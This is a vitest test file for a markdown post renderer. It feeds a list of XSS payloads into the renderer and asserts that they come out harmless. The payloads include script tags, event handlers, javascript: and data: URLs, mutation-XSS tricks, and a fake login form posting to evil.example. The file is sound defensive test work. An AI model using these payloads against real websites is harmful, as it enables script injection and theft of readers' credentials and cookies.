import { describe, expect, it } from "vitest";
import { renderPostBody } from "./markdown.ts";

// What an operator (or an attacker with an operator's account) writes into a post must never run
// in a reader's browser: the rendered HTML keeps the text and drops every way to execute script.

const hostile = [
  `<script>alert(document.cookie)</script>`,
  `<img src="https://example.com/x.png" onerror="alert(1)">`,
  `<img src="javascript:alert(1)">`,
  `<img src="x" onload="alert(1)">`,
  `[click me](javascript:alert(1))`,
  `[encoded](jav&#x61;script:alert(1))`,
  `<a href="JaVaScRiPt:alert(1)">mixed case</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
  `<style>body{display:none}</style>`,
  `<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>`,
  `<svg onload="alert(1)"><circle r="10"/></svg>`,
  `<form action="https://evil.example/"><input name="password"><button>Log in</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<div onclick="alert(1)" onmouseover="alert(2)">hover</div>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  "```html\n<script>alert('in code')</script>\n```",
].join("\n\n");

describe("post bodies are rendered harmless", () => {
  const html = renderPostBody(`## Notice\n\nReal **content** stays.\n\n${hostile}`);

  it("keeps the real content", () => {
    expect(html).toContain("<h2>Notice</h2>");
    expect(html).toContain("<strong>content</strong>");
    expect(html).toContain("mixed case");
    expect(html).toContain("overlay");
  });

  it("has no element that can run script, load a page or restyle the site", () => {
    for (const tag of [
      "script",
      "iframe",
      "object",
      "embed",
      "style",
      "svg",
      "form",
      "input",
      "button",
      "meta",
      "base",
      "link",
      "math",
      "noscript",
    ]) {
      expect(html, tag).not.toMatch(new RegExp(`<${tag}[\\s>/]`, "i"));
    }
  });

  it("has no event handler, inline style or script URL in any attribute", () => {
    const attributes = [...html.matchAll(/<[a-z][^>]*>/gi)].map((m) => m[0]);
    for (const tag of attributes) {
      expect(tag, tag).not.toMatch(/\son\w+\s*=/i);
      expect(tag, tag).not.toMatch(/\sstyle\s*=/i);
      expect(tag, tag).not.toMatch(/href\s*=\s*"(?!https?:|mailto:|tel:|\/|#)/i);
      expect(tag, tag).not.toMatch(/src\s*=\s*"(?!https:)/i);
    }
    expect(html).not.toMatch(/javascript:|vbscript:|data:text/i);
  });

  it("shows code as text, escaped", () => {
    expect(html).toContain("&lt;script&gt;alert('in code')&lt;/script&gt;");
  });

  it("lets safe links through, opening nothing on the site's behalf", () => {
    const safe = renderPostBody(
      "[help](https://example.com/help) <a href='mailto:a@example.com'>mail</a> [fees](/notice?slug=academy-fees)",
    );
    expect(safe).toContain('href="https://example.com/help"');
    expect(safe).toContain('rel="noopener noreferrer nofollow"');
    expect(safe).toContain('href="mailto:a@example.com"');
    expect(safe).toContain('href="/notice?slug=academy-fees"');
  });

  it("keeps tables (the fee schedules) and https images only", () => {
    const table = renderPostBody(
      "| a | b |\n|---|---|\n| 1 | 2 |\n\n![x](http://example.com/x.png) ![y](https://example.com/y.png)",
    );
    expect(table).toContain("<table>");
    expect(table).toContain("<td>1</td>");
    expect(table).not.toContain("http://example.com/x.png");
    expect(table).toContain('src="https://example.com/y.png"');
  });
});
